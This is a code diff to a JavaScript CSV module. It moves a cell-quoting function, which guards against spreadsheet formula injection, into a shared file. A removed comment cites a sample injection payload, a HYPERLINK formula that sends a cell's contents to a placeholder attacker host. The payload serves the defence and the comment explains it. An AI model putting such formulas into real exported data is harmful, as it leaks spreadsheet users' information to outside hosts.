@@ -121,15 +121,5 @@ export function csvRows(text) {
   return { ok: true, rows };
 }
 
-/**
- * One CSV cell, quoted when it must be. Every CSV this front writes goes through here. A text that
- * starts with = + - @, a tab or a carriage return would run as a formula in a spreadsheet (an answer
- * like `=HYPERLINK("http://evil/?"&A1)` leaks the sheet when clicked): it gets a leading ' and quotes,
- * as OWASP advises for CSV injection. Numbers are ours, never formulas, and stay numbers.
- * @param {unknown} value
- */
-export function csvCell(value) {
-  const s = value === null || value === undefined ? "" : String(value);
-  if (typeof value !== "number" && /^[=+\-@\t\r]/.test(s)) return `"'${s.replace(/"/g, '""')}"`;
-  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
-}
+// the cell writer lives in csv-cell.js, shared with the CLI; re-exported for the pages that import it from here
+export { csvCell } from "./csv-cell.js";
